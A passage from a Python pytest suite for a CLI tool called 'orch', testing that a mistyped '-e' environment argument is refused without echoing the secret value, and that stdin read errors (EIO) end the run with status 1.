                                  subprocess.DEVNULL, stderr=subprocess.PIPE, timeout=60,
                                  close_fds=True, pass_fds=(),
                                  preexec_fn=None if stdout else lambda: os.close(1))
        assert done.returncode == 2, done
        assert done.stderr.decode() == ("orch: config error: -e expects KEY=VALUE, got a "
                                        "value of 3 characters with no '='\n")


def test_a_variable_given_without_its_name_is_refused_without_showing_its_value() -> None:
    """safety22: `-e "$TOKEN"` with `NAME=` forgotten printed the value in the error, into
    the terminal, a CI log, or (`-e {tok}` on a magic line) the saved notebook."""
    F = "(a token, base64 or base32, with its name forgotten?)"  # noqa: N806 - said often
    for given, said in (("CliSecretValue999", "a value of 17 characters with no '='"),
                        ("=CliSecretValue999", "a value of 18 characters starting with '='"),
                        # review42: base64's padding made the token a name, in the audit log
                        ("CliSecretValue999Zz=", f"a value of 20 characters ending in '=' {F}"),
                        ("CliSecretValue999Zz==", f"a value of 21 characters ending in '=' {F}"),
                        # review44: url-safe (shown as not a name), or with no digit (taken)
                        ("CliSecret-Value_Zz=", f"a value of 19 characters ending in '=' {F}"),
                        ("CliSecretValueZzQq=", f"a value of 19 characters ending in '=' {F}"),
                        ("CliSecret-Value_Zz=Q", f"a value of 20 characters with '=' inside {F}"),
                        # review45: base32's padding
                        ("CLISECRETBASE32ZZ======", f"a value of 23 characters ending in '=' {F}"),
                        # review46: base32 starting with a digit, lower case, one `=`
                        ("2QRZW3ZVO5BIKXGXRMUYH6SL74======",
                         f"a value of 32 characters ending in '=' {F}"),
                        ("3eyj5qtamfagsiwtuo2qbirtuu======",
                         f"a value of 32 characters ending in '=' {F}"),
                        ("CDYQAEYZT35YIHWR3SY24RSKVE6MUCA=",
                         f"a value of 32 characters ending in '=' {F}"),
                        ("2QRZW3ZVO5BIKXGXRMUY=x", f"a value of 22 characters with '=' inside {F}")):
        done = orch("--demo", "run", "local", "-e", given, "--", "true")
        assert done.returncode == 2 and "secret" not in done.stderr.decode().lower(), done
        assert done.stderr.decode() == f"orch: config error: -e expects KEY=VALUE, got {said}\n"
    for kept in ("EMPTY_ON_PURPOSE=", "lower_case_variable_1=", "DOTNET_gcHeapHardLimit=",
                 "ConnectionStrings__Default="):  # review45: variables cleared
        assert orch("--demo", "run", "local", "-e", kept, "--", "true").returncode == 0


def test_a_stdin_that_cannot_be_read_fails_the_run_with_status_1(tmp_path: Path) -> None:
    """review42: a read error of orch's stdin (here /proc/PID/mem, whose read at offset 0
    fails with EIO, as a failing disk's does) stopped the run and exited 130, a Ctrl-C's
    status: a script took an I/O error for an operator's interrupt."""
    holder = subprocess.Popen(["sleep", "60"])
    try:
        with open(f"/proc/{holder.pid}/mem", "rb") as mem:
            done = subprocess.run([*ORCH, "--demo", "run", "local", "--", "wc", "-c"],
                                  stdin=mem, capture_output=True, text=True, timeout=60)
    finally:
        holder.kill()
        holder.wait()
    assert done.returncode == 1, done
    assert "stdin source failed: OSError: [Errno 5] Input/output error" in done.stderr, done


def test_a_read_error_of_a_stdin_that_is_no_terminal_stops_the_run(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """chains28: every EIO reading orch's stdin was taken for a terminal's hang-up: from a
    failing disk, `wc -c` got an empty input and exit 0 (under nohup), or orch exited 129.
    A disk's EIO cannot be had on demand here: the read is made to fail (a mock, for that
    fault alone); a stdin that is no terminal raises, so the run stops as a broken source."""
    import errno

    from orch_magics.cli import stream

    def failing(fd: int, size: int) -> bytes:
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(stream.os, "isatty", lambda fd: False)
    monkeypatch.setattr(stream.os, "read", failing)
    with pytest.raises(OSError, match="Input/output error"):
        next(stream._fd0_chunks())
